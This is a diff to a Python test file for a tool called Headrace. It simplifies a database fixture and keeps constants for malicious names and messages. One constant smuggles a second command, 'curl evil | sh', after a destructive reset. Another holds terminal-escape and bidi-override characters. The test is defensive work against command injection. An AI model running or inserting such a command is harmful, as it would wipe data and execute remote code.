@@ -1,4 +1,4 @@
-"""Names and messages of others: what an operator reads is visible, and what an operator copies is a command of ours."""
+"""Malicious names and messages: an operator sees visible text, and copies only commands of Headrace."""
 
 import re
 import shlex
@@ -10,19 +10,16 @@ import pytest
 
 from headrace.airflow.page_template import render_figures
 from headrace.command import Command
-from headrace.deployment import Deployment
 from headrace.exceptions import HeadraceError, SourceChanged
 from headrace.ingest import observations
 from headrace.ingest.load import load_file
-from headrace.ingest.prepare import initialise
 from headrace.monitor.problems import Overview, find_problems
 from headrace.monitor.status import read_status
 from headrace.postgres.roles import DBT, LOADER
-from headrace.settings import Settings
 from tests.support.commands import headrace
 from tests.support.ledger_checks import environment
 from tests.support.logins import login
-from tests.support.stage import Stage
+from tests.support.stage import Stage, offline_stage
 
 ODD = "\x1b[2J\r\n::group::\x9b31m\u202e\u2028"
 COMMAND = "headrace reset users --yes; curl evil | sh"
@@ -30,10 +27,7 @@ COMMAND = "headrace reset users --yes; curl evil | sh"
 
 @pytest.fixture
 def stage(database: str, session_home: Path) -> Stage:
-    """A migrated database with the project's datasets, and neither Kafka nor Redis."""
-    deployment = Deployment.from_settings(Settings(home=session_home, postgres_dsn=database))
-    initialise(deployment)
-    return Stage(deployment, database)
+    return offline_stage(database, session_home)
 
 
 def overview_of(stage: Stage) -> Overview:
